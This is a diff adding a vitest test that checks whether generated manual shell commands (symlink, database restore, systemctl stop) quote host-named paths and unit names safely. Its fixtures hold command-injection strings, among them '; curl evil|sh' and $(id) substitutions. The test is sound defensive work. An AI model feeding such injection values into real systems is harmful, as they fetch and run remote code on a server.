@@ -1,4 +1,5 @@
 import { expect, test } from 'vitest';
+import { quote } from '../../src/domain/text/shell.ts';
 import { manualCommands, programPlaces, remainingCommands } from '../../src/remote/manual-commands.ts';
 import { codeOnlyPlan, databaseOnlyPlan, planOf, site } from '../entry/fixtures.ts';
 import { eventsTo, runOf } from '../support/story/run.ts';
@@ -69,4 +70,26 @@ test('where the program and its parts would be', () => {
     `restore     ${RUN}/restore.sql.gz`,
     `run         ${RUN}`,
   ]);
+});
+
+test('what the host has named is one word in each command, whatever it is called', () => {
+  const evil = "/srv/x; curl evil|sh # it's $(id) `id`";
+  const plan = codeOnlyPlan();
+  const program = plan.program
+    .replace(/^ENVIRONMENT='.*'$/m, () => `ENVIRONMENT=${quote(evil)}`)
+    .replace(/^STOP_UNITS='.*'$/m, () => `STOP_UNITS=${quote('a;id b$(id)')}`);
+  const restore = { path: evil, sha256: 'd'.repeat(64) };
+  const commands = [
+    ...manualCommands(site, { ...plan, program }, 'terminal-1'),
+    ...manualCommands(site, { ...databaseOnlyPlan(), restore }, 'terminal-1'),
+  ];
+
+  expect(commands).toContain(
+    `mv -T /srv/sum/acme-kitchens/venv ${RUN}/venv-before && ln -s ${quote(evil)} /srv/sum/acme-kitchens/venv`,
+  );
+  expect(commands).toContain(
+    `/srv/sum/bin/restore_db.sh --site-slug acme-kitchens --file ${quote(evil)} --i-know-this-will-overwrite --no-restart`,
+  );
+  expect(commands).toContain("sudo -n systemctl stop 'a;id'");
+  expect(commands).toContain("sudo -n systemctl stop 'b$(id)'");
 });
